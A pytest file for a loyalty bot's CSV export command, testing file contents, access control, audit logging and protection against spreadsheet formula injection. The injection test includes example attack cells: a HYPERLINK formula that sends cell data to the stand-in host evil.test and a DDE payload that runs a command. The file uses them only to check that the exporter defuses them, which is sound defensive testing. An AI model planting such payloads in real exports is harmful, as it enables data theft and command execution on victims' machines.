"""/export: the customers and the ledger as CSV files, for owners only."""

from __future__ import annotations

import csv
import io

from sqlalchemy import select

from bot.app import App
from bot.loyalty.export import FORMULA_STARTS, to_csv
from models import AuditEntry, StaffRole
from tests.helpers.chat import Chat


def _rows(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM that makes spreadsheets read UTF-8
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def test_export_sends_customers_and_ledger(app: App) -> None:
    owner = Chat(app, "1", display_name="Eleni")
    eleni = await owner.join("el", name="Ελένη")
    owner_actor = await app.loyalty.staff.appoint(eleni, StaffRole.OWNER, by=None, branch_key="cbd")
    nikos = await Chat(app, "2").join("el", name='Νίκος, "ο μεγάλος"')  # a comma and quotes
    gone = await Chat(app, "3").join("am", name="አበበ")
    await app.loyalty.purchases.record(nikos, "1234.50", idempotency_key="r1", actor=owner_actor)
    await app.loyalty.purchases.record(gone, "500", idempotency_key="r2")
    await app.loyalty.customers.erase(gone)

    await owner.say("/export")
    assert owner.text == app.translator("el", "staff-export")
    customers_file, ledger_file = owner.last[0].files
    assert customers_file.filename == "customers-2026-03-02.csv"
    customers = _rows(customers_file.data)
    assert {c["name"] for c in customers} == {
        "Ελένη",
        'Νίκος, "ο μεγάλος"',
    }  # the erased one is gone
    nikos_row = next(c for c in customers if c["name"].startswith("Νίκος"))
    assert (nikos_row["points_balance"], nikos_row["language"], nikos_row["tier"]) == (
        "123",
        "el",
        "bronze",
    )

    ledger = _rows(ledger_file.data)
    purchase = next(r for r in ledger if r["purchase_amount"] == "1234.50")
    owner_code = (await app.loyalty.customers.get(eleni)).member_code
    assert (
        purchase["kind"],
        purchase["amount"],
        purchase["branch"],
        purchase["staff_member_code"],
    ) == ("earn", "123", "cbd", owner_code)
    assert (
        sum(int(r["amount"]) for r in ledger) == 123
    )  # the erased balance was forfeited in the books
    assert len(ledger) == 3
    async with app.db.read() as s:
        exports = list(
            await s.scalars(
                select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)
            )
        )
    assert [(e.staff_id, e.details["file"]) for e in exports] == [
        (owner_actor.staff_id, "customers"),
        (owner_actor.staff_id, "ledger"),
    ]


async def test_a_customer_cannot_export(app: App) -> None:
    chat = Chat(app, "9")
    await chat.join("en")
    await chat.say("/export")
    assert chat.text == app.translator("en", "fallback-hint")
    assert all(not r.files for r in chat.last)


async def test_no_cell_of_an_export_is_a_formula_a_spreadsheet_would_run(app: App) -> None:
    owner = Chat(app, "1", display_name="Eleni")
    eleni = await owner.join("el", name="Ελένη")
    owner_actor = await app.loyalty.staff.appoint(eleni, StaffRole.OWNER, by=None)
    attack = '=HYPERLINK("http://evil.test/?d="&C2,"Prize")'
    names = [attack, "+cmd|' /C calc'!A0", "-2+3 Bob", "@SUM(A1:A9)"]
    ids = [await Chat(app, str(10 + i)).join("en", name=name) for i, name in enumerate(names)]
    await app.loyalty.customers.register(
        "test", "phone", language="en", name="Zawadi", phone="+254700000001"
    )
    await app.loyalty.points.adjust(ids[0], 5, "=1+1 prize", actor=owner_actor)
    await owner.say("/export")
    customers_file, ledger_file = owner.last[0].files
    customers = _rows(customers_file.data)
    assert {c["name"] for c in customers} >= {"'" + name for name in names}
    # Numbers run nothing and stay numbers: a phone, a negative amount.
    assert "+254700000001" in {c["phone"] for c in customers}
    ledger = _rows(ledger_file.data)
    assert any(r["note"] == "'=1+1 prize" and r["amount"] == "5" for r in ledger)
    for row in [*customers, *ledger]:
        for cell in row.values():
            assert not cell.startswith(FORMULA_STARTS) or cell.lstrip("+-").isdigit(), cell


def test_tabs_and_returns_that_start_a_cell_are_kept_as_text() -> None:
    data = to_csv(("a", "b"), [("\tx", "\ry")]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(data)))[1] == ["'\tx", "'\ry"]
